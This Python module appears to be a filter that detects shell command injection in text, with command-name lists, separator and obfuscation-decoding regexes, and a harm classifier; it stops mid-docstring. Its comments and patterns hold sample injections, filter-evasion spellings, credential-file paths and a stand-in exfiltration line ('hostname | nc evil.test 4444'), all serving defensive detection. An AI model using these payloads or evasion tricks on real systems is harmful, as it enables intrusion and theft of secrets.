"""Shell command injection, read the way a shell reads it.

An injection appends a command to a value the application passes to a shell: the
text holds a separator (`;`, `|`, `||`, `&`, `&&`, a line break, `$(`, a backtick)
followed by a command name. What stands *before* the separator tells injection from
a pasted pipeline: nothing, a quote or a value ("127.0.0.1; cat /etc/passwd",
"'| id", "x`id`") is an injection; a command ("ps aux | grep python") is someone
showing a shell line. Command names that are also English words ("sleep", "type",
"find", "date") count only with shell-shaped arguments after them, and a backtick
pair in prose ("run `ls -la` in the folder") is Markdown, not a subshell.
"""

from __future__ import annotations

import base64
import binascii
import re
from array import array
from bisect import bisect_left
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import accumulate, count
from operator import add

from filters._patterns import each_spans, text_pattern
from filters.threat import globbing

# Commands whose names are not everyday words: a separator before them is enough.
COMMANDS = frozenset("""
whoami uname ifconfig ipconfig wget curl nc ncat netcat bash zsh ksh csh tcsh sh powershell pwsh cmd
cmd.exe nslookup ls pwd passwd chmod chown chgrp rmdir mkfifo telnet systeminfo tasklist taskkill certutil
bitsadmin mshta rundll32 regsvr32 wmic cscript wscript python python2 python3 perl ruby php node busybox
hostname netstat printenv env crontab useradd usermod getent tac base64 xxd nmap sudo tftp scp ssh lsb_release logname
sftp ftp schtasks icacls whoami.exe net.exe nohup xargs awk gawk sed grep egrep lsof
pkill killall mkdir openssl socat iptables systemctl journalctl
arp traceroute tracert nbtstat setx attrib findstr wevtutil vssadmin bcdedit sysinfo locate
iex iwr irm icm iwmi gwmi gcim saps sajb ipmo
""".split())
_VERBS = (r"get|set|new|remove|invoke|start|stop|restart|out|write|read|add|clear|copy|move|rename|test|import|"
          r"export|convertto|convertfrom|enable|disable|register|send|receive|resolve|select|where|foreach|format|"
          r"measure|install|expand|compress|enter|wait")
# PowerShell names its commands verb-noun ("Get-Process", "Invoke-WebRequest") from a fixed list of
# verbs; such a name counts as a command when a shell-shaped argument ("-Name", a path) follows it.
_POWERSHELL = text_pattern(r"^(?:" + _VERBS + r")-[a-z]{3,30}$")
# Command names that are also words of prose: they need shell-shaped arguments.
# "id", "cat", "dir" or "net" after "|" at the very end of a message ("| id") count too.
WORDLIKE = frozenset("sleep ping type kill find sort head tail more less cut touch file dig host time date who "
                     "set start call timeout expr wait exit reboot shutdown echo printf read test which where "
                     "whois uptime df du free top watch chdir cd id cat dir net del reg rm su ps ip cp mv ln tar "
                     "dd tee copy move route service dash gzip unzip for sc".split())
_NAMES = COMMANDS | WORDLIKE
# Words of the shell's grammar that run the command after them (`time id`, `exec sh`, `command -p id`): the word
# after one is read as the command (`_is_command`).
_PREFIXES = frozenset("time exec command builtin nohup nice sudo doas".split())
# What `commands` can flag at all: a separator, then a name it knows, then an argument or an end. Cheaper
# screens ("; my flight lands") than the separator pattern, for a caller that scans for many patterns at once.
COMMAND_HINT = (r"(?:\|\|?|&&?|;|\n|[$<>]\(|\x60)[ \t]*(?:[({!][ \t]*)*[\"']?(?:"
                + "|".join(sorted((name.replace(".", r"\.") for name in _NAMES | _PREFIXES),
                            key=lambda name: (-len(name), name)))
                + r"|(?:" + _VERBS + r")-[a-z]{3,30})(?:[ \t;|&><)\x60'\"\n]|$)")
# Sub-commands that make a word-like name a command on their own ("| net view", "&& net user x").
SUBCOMMANDS = frozenset("user users view localgroup group share use session accounts config query add delete "
                        "export create stop addr link neigh".split())
# A separator, a command name, then its first argument, a shell metacharacter or the end.
# A subshell `(`, a group `{` or a pipeline's `!` may open the command (`x; ( id )`, `x && { id; }`, `x; ! id`),
# and blanks may end the text after it (`x; id `).
SEPARATOR = (r"(\|\|?|&&?|;|\n|\$\(|\x60)[ \t]*(?:[({!][ \t]*){0,4}[\"']?([a-z][a-z0-9_.\-]{0,30})"
             r"(?:[ \t]+(\S{1,80})|[;|&><)\x60'\"\n]|[ \t]*$)")
_SEPARATOR_STARTS = ("|", "&", ";", "\n", "$(", "\x60")  # what a `SEPARATOR` match must begin with
# The shell takes quotes, backslashes and the empty expansions `$@` and `$*` out of a word, and expands a
# brace list, before it looks a command up: `w'h'o'am'i`, `c\\at`, `wh""oami`, `ca$@t` and `{ls,-la,/}` run
# `whoami`, `cat`, `whoami`, `cat` and `ls -la /`. So do the expansions an injected value meets empty in the
# shell it reaches (a positional parameter `$1`, an unset `$x` or `${x}`, an empty `$()`), `${IFS}` (a space)
# and ANSI-C quoting (`$'\\x63at'` is `cat`); cmd.exe takes `^` out of a word (`w^h^o^a^m^i`). A separator
# followed by such a word (a screen for a caller's combined scan; prose such as "; don't" passes it too, and
# reads as no command):
QUOTED_HINT = (r"^[ \t]*\{[a-z0-9_./'\"\\?*-]{1,40},|"
               r"(?:\|\|?|&&?|;|\n|\$\(|\x60)[ \t]*(?:[({!][ \t]*){0,4}(?:\{[a-z0-9_./'\"\\?*-]{1,40},|"
               r"[a-z0-9_./-]{0,40}(?:(?:['\"\\^]|\$(?:[@*0-9'{]|\(\)))+[a-z0-9_./-]|\$[a-z_]))")
# An expansion inside a word, as `_expand` reads it (bounded, so the search stays linear).
_EXPANSION = (r"\$'(?:[^'\\\n]|\\.){0,40}'|\$\{ifs\b[^}\s]{0,10}\}|\$ifs\b|"
              r"\$(?:[@*0-9]|\(\)|\{[^}\s]{0,30}\}|[a-z_][a-z0-9_]{0,20})")
# The word itself, for Python's engine: a match starts only at a separator and every part is bounded.
_BRACE_LIST = r"\{[a-z0-9_./'\"\\?*-]{1,40}(?:,[a-z0-9_./'\"\\?*:-]{0,40}){1,8}\}"  # `{cat,/etc/passwd}`, `{id,}`, `{c''at,x}`
_QUOTED_WORD = re.compile(r"(?:\|\|?|&&?|;|\n|\$\(|`)[ \t]*(?:[({!][ \t]*){0,4}(" + _BRACE_LIST + r"|"
                          r"[a-z0-9_./-]{0,40}(?:(?:['\"\\^]|" + _EXPANSION + r")[a-z0-9_./-]{0,40}){1,16})")
_EXPANSIONS = re.compile(_EXPANSION)
_ANSI_ESCAPE = re.compile(r"\\(?:x([0-9a-f]{1,2})|([0-7]{1,3})|(.))")
_UNQUOTE = str.maketrans({"'": None, '"': None, "\\": None, "^": None})
EXEC_CALL = (r"\b(?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|spawn|execsync|"
             r"exec_command|os\.system|os\.popen|subprocess\.\w+)\s*\(\s*(?:\[\s*[\"'\x60]?|[\"'\x60])\s*"
             r"([a-z][a-z0-9_.\-]{0,30})")
_EXEC_CALL = text_pattern(EXEC_CALL)
_SHELL_ARG = text_pattern(r"^(?:[/~\\$%\-<>`'\"]|\.{1,2}/|\d|[a-z]:\\|[a-z0-9.\-]+\.[a-z]{2,}|https?:|#$)")
# Output sent to a file later on the command's line: "echo x > /tmp/p", "echo y >> ~/.bashrc".
_REDIRECT = text_pattern(r"^[^\n;|&]{0,80}?[^-=<>]>>?[ \t]*(?:[/~$]|\.{1,2}/|[\w-]+\.[a-z0-9]{1,5}\b)")
_VALUE_CHARS = frozenset("'\"=([{,:")
_FLAG = text_pattern(r"(?:^|\s)--?[a-z0-9]")  # a command-line flag: the segment is itself a command line
# Programs people run in the pipelines they paste ("git log | grep fix", "docker ps | grep app"): a segment
# that starts with one is itself a command line, like one that starts with a name of `COMMANDS`.
TOOLS = frozenset("""
git docker podman kubectl helm terraform ansible vagrant npm npx yarn pnpm pip pip3 pipx poetry uv cargo
rustc go make cmake gcc clang java javac mvn gradle dotnet composer bundle gem rake rails psql mysql
sqlite3 redis-cli mongosh aws gcloud az jq yq rg ag fd ffmpeg apt apt-get yum dnf brew snap pacman
dmesg lsblk lscpu vmstat iostat strace tcpdump ss ufw nginx apachectl certbot
""".split())
_LEADS = COMMANDS | WORDLIKE | TOOLS  # a segment starting with one of these is a command line
_SENTENCE_MARKS = ("? ", "! ", ". ", ": ", "?\t", ".\t", "?\n", ".\n", ":\n")  # a sentence ended

# What an injected command does decides, not only that a separator precedes it. These names reveal who
# and where the process is, open a shell or a connection, fetch and run code, schedule, add users or
# wait out a blind probe: after any separator they stay an injection. Everyday build, package, file and
# admin commands (apt, make, git, ls, mkdir, grep, systemctl...) are what people quote in the middle of a
# sentence ("I ran sudo apt update; sudo apt upgrade and..."), and drop to a note there.
HARMFUL = frozenset("""
whoami whoami.exe id uname hostname nc ncat netcat socat telnet bash zsh ksh csh tcsh sh dash powershell pwsh
cmd cmd.exe systeminfo sysinfo tasklist taskkill certutil bitsadmin mshta rundll32 regsvr32 wmic cscript wscript
getent printenv env passwd xxd nmap tftp mkfifo crontab useradd usermod busybox net net.exe iex iwr irm
icm iwmi gwmi gcim saps sajb ipmo sleep timeout scp sftp ftp schtasks icacls setx vssadmin bcdedit wevtutil
reg nbtstat reboot shutdown who su lsb_release logname
""".split())
# Names that run the word after them: the command is that word (`sudo apt upgrade` is `apt`).
_WRAPPERS = frozenset("sudo nohup xargs nice time doas exec command builtin".split())

# Interpreters run a file (ordinary: "python app.py") or code given inline (`python -c`, `perl -e`).
_INTERPRETERS = frozenset("python python2 python3 perl ruby php node".split())
_INLINE_CODE = re.compile(r"[ \t]+-[a-z]*[cer]\b")
# On the rest of the command's line, whatever the name: output piped into a shell or an interpreter,
# a connection back, decoding into a shell, a sensitive file read, a file uploaded, everything deleted,
# a start-up file, a key or a page of the web server's own written, a download saved (a stage of fetched code), a world-writable file made
# runnable, set-uid files looked for, a web application's configuration read.
_HARMFUL_LINE = text_pattern(
    r"\|[ \t]*(?:sudo[ \t]+)?(?:ba|z|k|da|c|tc)?sh\b|\|[ \t]*(?:python[23]?|perl|ruby|php|node|iex|powershell|pwsh)\b"
    r"|/dev/(?:tcp|udp)/|[ \t]-[a-z]*e[ \t]+(?:/bin/|/usr/bin/)?(?:ba|z|da)?sh\b|[ \t]-e[ \t]+cmd\b"
    r"|\bsocket\b"
    r"|/etc/(?:passwd|shadow|sudoers|group|gshadow)\b|\.ssh/|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|\.aws/|\.bash_history"
    r"|/proc/self/|/root/|\.env\b|\.htpasswd|win\.ini|boot\.ini"
    r"|[ \t](?:-d|--data(?:-binary)?|-t|--upload-file|-f)[ \t]*['\"]?[a-z_]*=?@"
    r"|\brm[ \t]+-[a-z]*[rf][a-z]*[ \t]+(?:/|~|\*|\$home)(?:[ \t*)\x60;|&'\"]|$)"
    r"|>[ \t]*(?:~/\.|\$home/\.|/etc/|/var/spool/cron|\S*authorized_keys|/var/www/|\S*(?:htdocs|wwwroot|public_html)[/\\])"
    r"|\b(?:curl|wget)\b[^|;&]*(?:[ \t]-[a-z]*o|[ \t]--output|>)"
    r"|\bchmod[ \t]+[^|;&]*(?:/tmp/|/dev/shm/|/var/tmp/)"
    r"|[ \t]-perm[ \t]+[-/]?(?:[ug]?[=+]s|[246]000)|wp-config|web\.config")
_HARMFUL_MARKS = frozenset("|/@>.~*_$")
_CLOSERS = ")\x60'\";|&"  # what may close a word a wrapper is given
# PowerShell names that fetch, run or load code, or list accounts and processes.
_POWERSHELL_HARM = re.compile(r"(?:invoke-|start-process|new-object|add-type|set-executionpolicy|get-wmiobject|"
                              r"get-ciminstance|get-localuser|get-localgroup|get-credential|get-process)")
# Programs that carry what they read to another machine: a pipeline ending in one of them sends its output off
# ("hostname | nc evil.test 4444", "id | socat - tcp:evil.test:4444"), the shape of exfiltration and of a
# reverse shell's first step, whatever command produced it. Sent to the machine itself (localhost, 127.x) it
# is someone testing a server.
RELAYS = frozenset("nc ncat netcat socat telnet".split())
_SENT_OUT = 0.9
# A host and a port among a relay's words: `nc -q1 evil.test 4444`, `telnet 10.0.0.5 23`, `tcp:host:port`.
_DESTINATION = re.compile(r"(?:^|[ \t])(?:-[a-z0-9]+[ \t]+)*(?:[a-z0-9-]+[:-])?(?:connect[:-])?"
                          r"(\[[0-9a-f:]+\]|[a-z0-9][a-z0-9.-]{0,252})[ \t:]+\d{1,5}(?:[ \t;|&,)]|$)")
_LOOPBACK = re.compile(r"^(?:localhost|127(?:\.\d{1,3}){3}|\[::1\]|0\.0\.0\.0|ip6-localhost)$")


def sends_out(name: str, rest: str) -> bool:
    """Whether the command `name` given `rest` (the rest of its line) connects to another machine's port: a
    relay (`RELAYS`) with a host and a port that is not the machine itself."""
    if name not in RELAYS:
        return False
    for match in _DESTINATION.finditer(rest.split("|", 1)[0]):
        host = match[1]
        if host[:1] != "-" and not host.isdigit() and _LOOPBACK.match(host) is None:
            return True
    return False


_TALKED_CALL = 0.5  # an exec call of an everyday command inside a sentence: worth an alert, not a block
# An exec call of an everyday command inside a pasted program (the caller's code gate): what the program does
# on its author's machine, a note. A harmful command (`harmful`) weighs as anywhere else.
_PASTED_CALL = 0.3
_ARGV_MARKS = str.maketrans({mark: " " for mark in "'\"`,[]"})
_COUNT = re.compile(r"[ \t]-[cnw][ \t]*\d")  # `ping -c 5`: a probe that waits a known time
_PROSE_WORD = re.compile(r"^[^\W\d_]+(?:['’-][^\W\d_]+)*[,.:!?]?$")
_ASSIGNMENT = re.compile(r"^[a-z_][a-z0-9_]*=$")


def harmful(name: str, rest: str) -> bool:
    """Whether the command `name`, with `rest` the rest of its line, reads as recon, a connection, code
    run from elsewhere or damage (`HARMFUL`, `_HARMFUL_LINE`), rather than an everyday command."""
    for _ in range(3):  # `sudo nohup x`, `sudo -u root x`: the wrapped name is the command
        if name not in _WRAPPERS:
            break
        words = [word.rstrip(_CLOSERS) for word in rest.split(None, 8)[:8]]  # `$(sudo -i)`: "-i"
        while words and words[0][:1] == "-":
            if words[0] in ("-i", "-s"):
                return True  # `sudo -i`: a root shell
            del words[:2 if words[0] in ("-u", "-g") else 1]
        if not words:
            return False
        name, rest = words[0], " " + " ".join(words[1:])
    if name in HARMFUL or _POWERSHELL_HARM.match(name) is not None:
        return True
    line = name + rest
    # Every branch of `_HARMFUL_LINE` needs one of these: most lines of talk hold none (a search costs
    # about 13 µs, the screen well under one).
    if ((not _HARMFUL_MARKS.isdisjoint(line) or "socket" in line)
            and _HARMFUL_LINE.search(line) is not None):
        return True
    if name == "ping":
        return _COUNT.search(rest) is not None
    return name in _INTERPRETERS and _INLINE_CODE.match(rest) is not None


def _talk(segment: str, text: str, sep_start: int) -> bool:
    """Whether what stands before a separator is talk about a command, not a value broken out of: three
    words of prose right before it ("I ran sudo apt update; ..."), a shell variable assigned (`x=$(...)`: a shell
    line shown), or, for `$(`, a quote after it (jQuery's `$("head")`; JavaScript, not a shell)."""
    stripped = segment.strip()
    if text.startswith("$(", sep_start):
        after = text[sep_start + 2:sep_start + 8].lstrip(" \t")
        if after[:1] in ("'", '"') or _ASSIGNMENT.match(stripped) is not None:
            return True
    words = stripped[-160:].rsplit(None, 3)[-3:]  # the three words next to the separator
    return len(words) == 3 and all(_PROSE_WORD.match(word) for word in words)


@dataclass(frozen=True, slots=True)
class Injected:
    start: int
    end: int
    weight: float
    how: str


def _shellish(argument: str, rest: str) -> bool:
    """A first argument shaped like a shell's, or output sent to a file further on the line (`rest`)."""
    return (_SHELL_ARG.search(argument) is not None or argument.rstrip(")\x60;|&'\"") in SUBCOMMANDS
            or (">" in rest and _REDIRECT.search(rest) is not None))


def _is_command(name: str, argument: str | None, last: bool, metachar: bool, rest: str = "") -> bool:
    """`metachar`: the name is followed at once by a redirection or another separator; `rest`: the
    text after the name."""
    if name in COMMANDS:
        return True
    if name in _PREFIXES and argument is not None and argument.rstrip(_CLOSERS) in _NAMES:
        return True
    if name not in WORDLIKE and ("-" not in name or _POWERSHELL.search(name) is None):
        return False
    if argument is None:
        return last or metachar
    return _shellish(argument, rest)


def _split_at_marks(text: str) -> tuple[array[int], list[str]]:
    """Where each mark of `text` stands (`;`, `|`, `&`, a line break, a backtick, a `$(` at its `$`: what
    starts a separator and ends the segment before one), in order, and the segment before each: the
    text back to the mark before it. Found with C-speed replaces and one `split` (every one-character
    mark made `;`); the offsets in an array of machine integers, where a dict from offset to segment
    cost twice the memory (about 30 MB for a megabyte of separators)."""
    marked = text
    for mark in "|&\n\x60":
        if mark in marked:
            marked = marked.replace(mark, ";")
    if "$(" in marked:
        marked = marked.replace("$(", ";(")
    pieces = marked.split(";")
    del pieces[-1]
    return array("q", map(add, accumulate(map(len, pieces)), count())), pieces


_MARK_STRINGS = (";", "|", "&", "\n", "\x60", "$(")
# Injections kept per reading: past this many the message blocks whatever follows (each weighs 0.9), so
# the rest are not read. A text of `$(id)` holds one every five characters: a finding object each, then
# sorted and weighed, cost 1.3 ms per KB.
MAX_INJECTED = 16
_SEARCHED = 16  # segments searched back for one by one; past them every segment is cut at once


def _segment_before(text: str, at: int) -> str:
    """The segment before the mark at `at` (as `_split_at_marks` cuts it), searched back for: a text with few
    commands (random text, chat) is not split at its every mark. The window doubles, so a long way back
    costs its length."""
    span = 64
    while True:
        low = max(0, at - span)
        mark = max(text.rfind(each, low, at) for each in _MARK_STRINGS)
        if mark >= 0 or low == 0:
            return text[mark + 1:at]
        span *= 2


# `SEPARATOR` for Python's engine: RE2's \S and $ spelt out (Python's \s holds more characters, its
# $ matches before a final line break). Python's engine walks the matches in C, where a call of RE2's
# wrapper took about 2 µs (a text of `; ls ` or of backticks holds a match every 5 to 8 characters);
# its backtracking stays linear: a match starts only at a mark, and each part is a run of one class
# followed by a class the run does not hold, so a failed attempt gives back at most the blanks it read
# and a name of 31 characters.
_SEPARATOR = re.compile(r"(\|\|?|&&?|;|\n|\$\(|`)[ \t]*(?:[({!][ \t]*){0,4}[\"']?([a-z][a-z0-9_.\-]{0,30})"
                        r"(?:[ \t]+([^\t\n\f\r ]{1,80})|[;|&><)`'\"\n]|[ \t]*\Z)")


def _last_visible(text: str, at: int) -> str:
    """The last character before `at` that is not white space ("" for none): `text[:at].rstrip()[-1:]`,
    read back in bounded slices."""
    while at > 0:
        chunk = text[max(0, at - 64):at].rstrip()
        if chunk:
            return chunk[-1]
        at -= 64
    return ""


def _has_letter(text: str) -> bool:
    """Whether `text` holds a letter; for ASCII by its case (str methods in C), not a step per character."""
    if text.isascii():
        return text.lower() != text.upper()
    return any(c.isalpha() for c in text)


def _line_rest(text: str, at: int) -> str:
    """The rest of the line from `at`, at most 120 characters, up to the next substitution (read as a
    command of its own): what the command at `at` is given and where its output goes."""
    rest = text[at:at + 120]
    for mark in ("\n", "$(", "\x60"):
        end = rest.find(mark)
        if end >= 0:
            rest = rest[:end]
    return rest


# Where a command quoted in a sentence ends: the sentence's end (a mark after a word, then prose or nothing:
# not `find . -name`) or a comma and a conjunction ("cut -d: -f4, but cat ... shows more"), which no shell
# line spells.
_CLAUSE_END = re.compile(r"(?<=[\w)'\"`])[.?!](?=\s+[^\W\d_]|\s*$)|,\s+(?:but|and|or|so|yet|while|though|although|"
                         r"because|since|whereas|which|then|however|except|unless)\b")


def _clause_rest(text: str, at: int) -> str:
    """`_line_rest` up to the end of its clause (`_CLAUSE_END`): what a command quoted in prose is given."""
    rest = _line_rest(text, at)
    end = _CLAUSE_END.search(rest)
    return rest if end is None else rest[:end.start()]


def _separated(text: str, found: list[Injected], original: str | None = None) -> None:
    """The commands after separators (`SEPARATOR`), added to `found`; `original`: the text as written
    when `text` is its shell reading (a quote after `$(` is read there). Only the first pipeline shown
    is added (the caller counts one, the first, however many a text shows: a text of `; ls ` shows
    thousands, each read but none made an object)."""
    original = text if original is None else original
    visible_end = len(text.rstrip())  # from here on only spaces: a name there ends the text
    marks: array[int] | None = None  # every one, once more than `_SEARCHED` have been searched for
    pieces: list[str] = []  # the segment before each of `marks`
    low = 0  # the index in `marks` of the mark cut at last (separators are read left to right)
    searched = 0
    leading: dict[str, bool] = {}  # whether a segment starts a command line, each distinct one read once
    piped = False
    injected = 0
    for match in _SEPARATOR.finditer(text):
        sep_start = match.start()
        if text[sep_start] == "`" and (_fence(text, sep_start) or _markdown(text, sep_start, sep_start + 1)):
            continue  # Markdown inline code: "`env`: run a command", "run `ls -la` in the folder"
        name_end = match.end(2)
        name = text[match.start(2):name_end]
        if name not in COMMANDS and name not in WORDLIKE and "-" not in name and name not in _PREFIXES:
            continue  # no command by any reading (`_is_command`): most separators of prose or random text
        arg_start, end = match.start(3), match.end()
        argument = text[arg_start:end] if arg_start >= 0 else None
        last, metachar = end >= visible_end, argument is None and end > name_end
        if argument is not None and not argument.strip(")};&"):  # `( who )`, `{ id; }`, `who &`: the command ends
            argument, metachar = None, True
        if name not in COMMANDS and not _is_command(name, argument, last, metachar, text[name_end:name_end + 120]):
            continue
        separator = match[1]
        if separator == "\n" and not (last or metachar if argument is None
                                      else _shellish(argument, text[name_end:name_end + 120])) \
                and not any(mark in text[match.end(1):match.start(2)] for mark in "({!"):
            continue  # a line of prose that starts with "cat" is not a command
        if marks is None and searched < _SEARCHED:
            searched += 1
            segment = _segment_before(text, sep_start)
        else:
            if marks is None:
                marks, pieces = _split_at_marks(text)
            low = bisect_left(marks, sep_start, low)  # `sep_start` is a mark: found at `low`
            segment = pieces[low]
        command_line = leading.get(segment)
        if command_line is None:
            command_line = leading[segment] = _command_line(segment.strip())
        if (command_line and _one_word(segment)) or (not command_line and (
                _talk(segment, original, sep_start) or _shown_after_prose(segment) or _begun_in_prose(segment)
                or _opens_message(segment, sep_start, match[1], name) or _sets(segment))):
            # talk about a command, a command line shown after a sentence, a message that is itself a
            # command line of a program the lists do not name, a variable set, or a lone word that is as much a
            # value as a command (`test || uname -a`, `date; id`): an injection only when the command does harm
            command_line = not harmful(name, _clause_rest(text, name_end))
        if command_line and separator == "|" and sends_out(name, _line_rest(text, name_end)):
            command_line = False  # a pipeline whose output leaves for another machine
        if not command_line:
            # nothing, a quote or a value before the separator: something was broken out of
            found.append(Injected(sep_start, name_end, 0.9, "injected-command"))
            injected += 1
            if injected >= MAX_INJECTED:
                return
        elif not piped:  # someone showing a pipeline: worth a note, never a block on its own
            piped = True
            found.append(Injected(sep_start, name_end, 0.15, "shell-pipeline"))


def _ansi(found: re.Match[str]) -> str:
    """One escape of ANSI-C quoting (`\\x63`, `\\143`, `\\c`) as the character it stands for."""
    hexa, octal, other = found.groups()
    return chr(int(hexa, 16)) if hexa else chr(int(octal, 8) & 0xFF) if octal else other


def _expand(found: re.Match[str]) -> str:
    """An expansion (`_EXPANSION`) as an injected value meets it: ANSI-C quoting decoded, `${IFS}` a space,
    `$@` and `$*` empty, anything else empty (a parameter, an unset variable, an empty substitution) when it
    stands inside a word (`w${x}hoami`). One that opens or ends the word is left as it is: a JavaScript template
    literal (`` `${name} env` ``) or a PowerShell string (`& "node$exe"`) spells those, and emptied they would
    hand the command's place to a word of text."""
    spelt = found.group()
    if spelt[1:2] == "'":
        return _ANSI_ESCAPE.sub(_ansi, spelt[2:-1]).lower()
    if spelt.lstrip("${")[:3] == "ifs":
        return " "
    if spelt in ("$@", "$*"):
        return ""
    return "" if 0 < found.start() and found.end() < len(found.string) else spelt


def _shell_word(word: str) -> str:
    """`word` as the shell reads it (`_QUOTED_WORD`), padded on the left with spaces (which the separator
    pattern takes before a name) to its length, so every offset of the text around it still holds and
    the name ends where the word did: `{ls,-la,/}` -> `  ls -la /`, `w'h'o'am'i` -> `    whoami`."""
    if word[:1] == "{":
        read = word[1:-1].replace(",", " ").translate(_UNQUOTE).rstrip()
    else:
        read = (_EXPANSIONS.sub(_expand, word) if "$" in word else word).translate(_UNQUOTE)
    return read.rjust(len(word))


def shell_reading(text: str) -> str | None:
    """`text` with each word after a separator read as the shell reads it (`_shell_word`), the same
    length; None when no such word holds quoting (most text)."""
    pieces: list[str] = []
    position = 0
    read_before: dict[str, str] = {}  # each distinct word read once (a hostile text repeats one)
    for match in _QUOTED_WORD.finditer(text):
        start, end = match.span(1)
        word = text[start:end]
        read = read_before.get(word)
        if read is None:
            read = read_before[word] = _shell_word(word)
        if read != word:
            pieces.append(text[position:start])
            pieces.append(read)
            position = end
    if not pieces:
        return None
    pieces.append(text[position:])
    return "".join(pieces)


# A variable given a value at the start of a command (`a=wh;b=oami;$a$b`, `x='cat'; $x /etc/passwd`): what a
# later `$a` or `${a}` in the same text expands to. At most `_ASSIGNMENTS` are read.
_ASSIGNED = re.compile(r"(?:^|[;&|\n`(])[ \t]*([a-z_][a-z0-9_]{0,20})=(['\"]?)([a-z0-9_./-]{0,40})\2(?=[ \t]*(?:[;&|\n`)]|$))")
_VARIABLE = re.compile(r"\$(?:\{([a-z_][a-z0-9_]{0,20})\}|([a-z_][a-z0-9_]{0,20}))")
_ASSIGNMENTS = 16


def assembled_reading(text: str) -> str | None:
    """`text` with each variable that the text itself assigns (`_ASSIGNED`) expanded, then read as the shell
    reads its words (`shell_reading`); None when no variable assigned in it is used. Not the same length:
    the caller maps what it finds there onto the whole text."""
    if "=" not in text or "$" not in text:
        return None
    values: dict[str, str] = {}
    for found in _ASSIGNED.finditer(text):
        values[found[1]] = found[3]
        if len(values) >= _ASSIGNMENTS:
            break
    if not values:
        return None
    read = _VARIABLE.sub(lambda found: values.get(found[1] or found[2], found[0]), text)
    if read == text:
        return None
    return shell_reading(read) or read


def _shown_after_prose(segment: str) -> bool:
    """Whether `segment` ends in a command line shown after a sentence of prose that ends before it ("How do
    I decode base64 in bash? echo aGVsbG8= | base64 -d"): three words of prose (`_PROSE_WORD`) among the
    sentence's last five, its closing mark and white space, then a command's name."""
    end = max(segment.rfind(mark) for mark in _SENTENCE_MARKS)
    if end < 0:
        return False
    shown = segment[end + 2:].split(None, 1)
    if not shown or shown[0].strip("'\"(") not in _LEADS:
        return False
    words = segment[max(0, end - 160):end + 1].split()[-5:]
    return sum(1 for word in words if _PROSE_WORD.match(word)) >= 3


# A variable set to a plain value (a number, a word, a path): how a shell line asked about opens ("why does
# a=1; echo $a print nothing"). A value that runs something (`a=$(...)`, a quote) is not plain.
_PLAIN_SET = re.compile(r"[a-z_][a-z0-9_]*=[\w./:@+-]*")


def _begun_in_prose(segment: str) -> bool:
    """Whether `segment` ends in a command line begun inside a sentence ("On my laptop cat /etc/group | grep
    sudo shows...", "Why does a=1; echo $a ..."): a listed command's name (`_LEADS`) or a variable set to a plain
    value (`_PLAIN_SET`) among its last six words, after two words of prose."""
    words = segment[-200:].split()[-6:]
    for index in range(2, len(words)):
        word = words[index]
        if ((word.strip("'\"`(") in _LEADS or _PLAIN_SET.fullmatch(word) is not None)
                and _PROSE_WORD.match(words[index - 1]) is not None
                and _PROSE_WORD.match(words[index - 2]) is not None):
            return True
    return False


_COMMAND_NAME = re.compile(r"[a-z][a-z0-9_+-]{2,30}")
# Programs that read what is piped into them: after a lone `|` they make the word before it a program whose
# output they read (`history | awk ...`), where `x | ls` or `hello; ls` chain a command onto a value.
STDIN_READERS = frozenset("grep egrep fgrep rg awk gawk sed sort uniq head tail cut tr wc less more tee xargs "
                          "jq yq column nl fmt fold rev paste cat".split())


def _opens_message(segment: str, sep_start: int, separator: str, name: str) -> bool:
    """Whether the message is itself a command line of a program the lists do not name: `segment`, the whole
    text before the first separator, starts with a word shaped like a program's name and either pipes its
    output into a program that reads it (`history | awk ...`, `readprofile | sort -nr`) or gives the
    program a substitution among its arguments (`fstab-decode umount $(awk ...)`). An injection needs a value
    before the separator: a number, an address, a file name, a letter (`127.0.0.1;`, `report.pdf|`, `x|`)."""
    if len(segment) != sep_start:  # a mark stands before it: not the message's first segment
        return False
    words = segment.split(None, 2)
    if not words or _COMMAND_NAME.fullmatch(words[0]) is None:
        return False
    if separator == "|":
        return name in STDIN_READERS
    return separator in ("$(", "\x60") and len(words) >= 2


def _command_line(segment: str) -> bool:
    """Whether the segment before a separator is itself a command line (a pipeline shown), not
    nothing, a quote or a value that something was broken out of."""
    first = segment.split(None, 1)[0].strip("'\"(") if segment else ""
    return first in _LEADS or first.startswith("#!") or _FLAG.search(segment) is not None


_SET = re.compile(r"[a-z_][a-z0-9_]*=\S*\Z")  # a segment that only sets a variable (`a=1`, `b=oami`)


def _sets(segment: str) -> bool:
    """Whether `segment` ends by setting a variable (`a=1`, `b=oami`, "Why does a=1"): what follows the separator
    uses it, a shell line shown or assembled, so the command decides."""
    words = segment[-200:].rsplit(None, 1)
    return bool(words) and _SET.match(words[-1]) is not None


def _one_word(segment: str) -> bool:
    """Whether `segment` is one word of prose that also names a command (`WORDLIKE`: "test", "date", "time"),
    with no argument: a value someone typed as much as a command line."""
    word = segment.strip()
    return word in WORDLIKE and word not in COMMANDS and word not in TOOLS


def _markdown(text: str, sep_start: int, sep_end: int) -> bool:
    """Whether the backtick at `sep_start` opens Markdown inline code rather than a subshell: not glued
    to a word, closed, after no shell character, and followed by prose or after some text. Asked first
    (it needs neither the name nor its argument): a text of backticks is mostly such code."""
    if sep_start > 0 and not text[sep_start - 1].isspace() and text[sep_start - 1] not in "([{":
        return False  # glued: "x`id`"
    closing = text.find("`", sep_end)
    if closing <= 0:
        return False
    before = text[max(0, sep_start - 64):sep_start].rstrip()
    before_text = before[-1] if before else _last_visible(text, sep_start)
    if before_text in ("$", "(", "=", "|", ";", "&", "'", '"'):
        return False
    return bool(before_text) or _has_letter(text[closing + 1:closing + 40])


# A Markdown code fence: three or more backticks opening a line, then an info string (a language) and the line's end.
_FENCE = re.compile(r"(?:^|(?<=\n))[ \t]{0,3}(`{3,})[a-z0-9_+#.-]{0,20}[ \t]*(?:\n|\Z)")


def _fence(text: str, at: int) -> bool:
    """Whether the backtick at `at` is part of a Markdown code fence (`_FENCE`), not a subshell."""
    start = text.rfind("\n", 0, at) + 1
    found = _FENCE.match(text, start)
    return found is not None and found.start(1) <= at < found.end(1)


def _listed(text: str, name_start: int) -> bool:
    """Whether the exec call's command at `name_start` is the first item of an argument list
    (`subprocess.run(["rm", "-rf", tmp])`): the program runs with those words, no shell reads them."""
    return text[max(0, name_start - 4):name_start].rstrip(" \t\"'\x60")[-1:] == "["


def _call_rest(text: str, name_end: int) -> str:
    """What an exec call gives the command ending at `name_end`, up to the call's close, read as the command
